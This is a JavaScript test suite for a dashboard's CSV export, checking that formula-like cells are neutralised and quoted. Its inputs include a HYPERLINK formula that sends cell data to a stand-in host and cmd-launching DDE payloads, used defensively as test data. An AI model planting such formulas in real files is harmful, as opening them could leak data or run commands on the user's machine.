// The Spend page's CSV export without a browser: `csv()` of crates/svc-gateway/ui/js/pages/spend.js (the
// module loads in Node: nothing browser-only runs at its top level; Node ≥ 20.19 reads it as an ES module by
// its syntax). A cell a client or key holder chose that starts like a formula is written as text (a single
// quote in front, OWASP's CSV injection rule), quoted per RFC 4180 when it holds `"`, `,`, `;`, tab, CR or LF;
// the numbers the dashboard writes stay numbers.

import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csv, csvCell } from '../../crates/svc-gateway/ui/js/pages/spend.js';
import { parseCsv, DANGEROUS_START } from './lib/csv.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const HEADER = ['group', 'requests', 'prompt_tokens', 'completion_tokens', 'spend'];

describe('csv export', () => {
  it('puts a single quote before each dangerous first character', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1+1'), "'+1+1");
    assert.equal(csvCell('-2+3+cmd|\' /C calc\'!A0'), "'-2+3+cmd|' /C calc'!A0");
    assert.equal(csvCell('@SUM(1+1)*cmd|\' /C calc\'!A0'), "'@SUM(1+1)*cmd|' /C calc'!A0");
    // Tab and CR are neutralised, then the cell is quoted because it holds them.
    assert.equal(csvCell('\t=1+1'), "\"'\t=1+1\"");
    assert.equal(csvCell('\r=1+1'), "\"'\r=1+1\"");
    assert.equal(csvCell('\n=1+1'), "\"'\n=1+1\"");
    // The full-width forms some spreadsheets and input methods turn into the ASCII ones.
    assert.equal(csvCell('＝1+1'), "'＝1+1");
    assert.equal(csvCell('＠SUM(A1)'), "'＠SUM(A1)");
    // A string that only looks like a number is still a string someone chose.
    assert.equal(csvCell('-5'), "'-5");
  });

  it('neutralises and quotes the HYPERLINK session id', () => {
    const cell = csvCell(HYPERLINK);
    assert.equal(cell, '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"');
    const text = csv(HEADER, [[HYPERLINK, 1, 10, 20, 0.0352]]);
    assert.equal(text, `group,requests,prompt_tokens,completion_tokens,spend\r\n${cell},1,10,20,0.0352\r\n`);
    assert.deepEqual(parseCsv(text)[1], [`'${HYPERLINK}`, '1', '10', '20', '0.0352']);
  });

  it('keeps RFC 4180 quoting for quotes, commas and line breaks in safe cells', () => {
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell('cr\rlf\r\n'), '"cr\rlf\r\n"');
    // Separators of other locales are quoted too, so no cell starts inside one there either.
    assert.equal(csvCell('a;=1+1'), '"a;=1+1"');
    assert.equal(csvCell('a\t=1+1'), '"a\t=1+1"');
    const rows = [['say "hi", then\r\nleave', 2, 3, 4, 5]];
    assert.deepEqual(parseCsv(csv(HEADER, rows)), [HEADER, ['say "hi", then\r\nleave', '2', '3', '4', '5']]);
  });

  it('leaves safe strings as they are', () => {
    for (const s of ['executor', 'planner-1', 'claude-cli', 'openai/gpt-4.1-mini', '5f0c-session', '(unknown)', 'a=b', "it's", 'x+y@z', '']) {
      assert.equal(csvCell(s), s);
    }
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
  });

  it('writes numbers as numbers', () => {
    assert.equal(csvCell(0), '0');
    assert.equal(csvCell(12345), '12345');
    assert.equal(csvCell(0.0042), '0.0042');
    assert.equal(csvCell(1e-7), '1e-7');
    // The dashboard never writes a negative number; one would stay a number (a spreadsheet reads `-3` as
    // minus three, not as a formula).
    assert.equal(csvCell(-3), '-3');
    // Not a finite number: written as text, so `-Infinity` is neutralised like any other string.
    assert.equal(csvCell(-Infinity), "'-Infinity");
    assert.equal(csvCell(NaN), 'NaN');
  });

  it('leaves no cell of an export starting with a dangerous character', () => {
    const labels = [HYPERLINK, '+1+1', '-1', '@A1', '\tx', '\rx', 'plain', 'a,"b"'];
    const text = csv(HEADER, labels.map((l, i) => [l, i, i * 10, i * 20, i / 100]));
    const rows = parseCsv(text);
    assert.equal(rows.length, labels.length + 1);
    for (const row of rows) {
      for (const cell of row) assert.doesNotMatch(cell, DANGEROUS_START, JSON.stringify(row));
    }
    assert.deepEqual(rows.slice(1).map((r) => r[0]), labels.map((l) => (DANGEROUS_START.test(l) ? `'${l}` : l)));
  });
});
